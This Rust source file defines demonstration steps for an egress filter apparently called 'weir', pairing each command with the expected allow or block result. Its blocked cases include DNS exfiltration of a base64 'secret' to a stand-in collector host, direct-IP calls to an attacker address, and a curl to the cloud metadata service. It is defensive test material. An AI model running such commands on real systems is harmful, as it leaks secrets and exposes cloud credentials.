//! The acts of the demonstration, each with what has to come of it.

use crate::lab::addresses::{ATTACKER, FOREIGN};
use crate::weir::Outcome;

/// A command and its expected end.
#[derive(Clone, Debug)]
pub(super) struct Act {
    pub(super) title: &'static str,
    pub(super) argv: Vec<String>,
    pub(super) expectation: Expectation,
}

/// What has to come of an act.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Expectation {
    /// It succeeds and nothing is recorded as a violation.
    Works,
    /// It fails, and a violation has this reason.
    Refused(&'static str),
    /// The program itself ends well with this text; a violation has this reason.
    Answered(&'static str, &'static str),
}

impl Expectation {
    /// In words, for the line under the act.
    pub(super) fn describe(self) -> String {
        match self {
            Self::Works => "it works, and nothing is refused".to_owned(),
            Self::Refused(reason) => format!("it fails at once, for the reason {reason}"),
            Self::Answered(text, reason) => {
                format!("the answer is {text}, for the reason {reason}")
            }
        }
    }
}

impl Act {
    fn new(title: &'static str, argv: &[&str], expectation: Expectation) -> Self {
        let argv = argv.iter().map(|word| (*word).to_owned()).collect();
        Self { title, argv, expectation }
    }

    /// Whether `outcome` is what was expected.
    pub(super) fn is_met_by(&self, outcome: &Outcome) -> bool {
        let refused = |reason: &str| outcome.violations().any(|event| event.reason() == reason);
        match self.expectation {
            Expectation::Works => outcome.output.code == 0 && outcome.violations().count() == 0,
            Expectation::Refused(reason) => outcome.output.code != 0 && refused(reason),
            Expectation::Answered(text, reason) => {
                outcome.output.stdout.contains(text) && refused(reason)
            }
        }
    }
}

/// Every act, in the order of the show.
pub(super) fn all() -> Vec<Act> {
    let address = format!("https://{}/", ATTACKER.v4);
    let address6 = format!("https://[{}]/", ATTACKER.v6);
    let foreign = format!("@{}", FOREIGN.v4);
    vec![
        Act::new(
            "An allowed name works.",
            &["curl", "-sS", "https://files.example.com/"],
            Expectation::Works,
        ),
        Act::new(
            "So does git.",
            &["git", "clone", "--quiet", "https://git.example.com/project.git", "project"],
            Expectation::Works,
        ),
        Act::new(
            "Any other name does not even resolve: the question never leaves the machine.",
            &["curl", "-sS", "-m", "10", "https://collector.example.net/"],
            Expectation::Refused("domain_not_in_allowlist"),
        ),
        Act::new(
            "A hard-coded address is refused at once.",
            &["curl", "-sS", "-m", "10", &address],
            Expectation::Refused("direct_ip_no_dns"),
        ),
        Act::new(
            "Over IPv6 as well.",
            &["curl", "-sS", "-m", "10", &address6],
            Expectation::Refused("direct_ip_no_dns"),
        ),
        Act::new(
            "A foreign resolver is never reached: weir answers in its place.",
            &["dig", "+tries=1", &foreign, "c2VjcmV0.collector.example.net"],
            Expectation::Answered("EDE: 15 (Blocked)", "domain_not_in_allowlist"),
        ),
        Act::new(
            "The cloud's metadata service is out of reach whatever a profile says.",
            &["curl", "-sS", "-m", "10", "http://169.254.169.254/latest/meta-data/"],
            Expectation::Refused("metadata_service"),
        ),
    ]
}
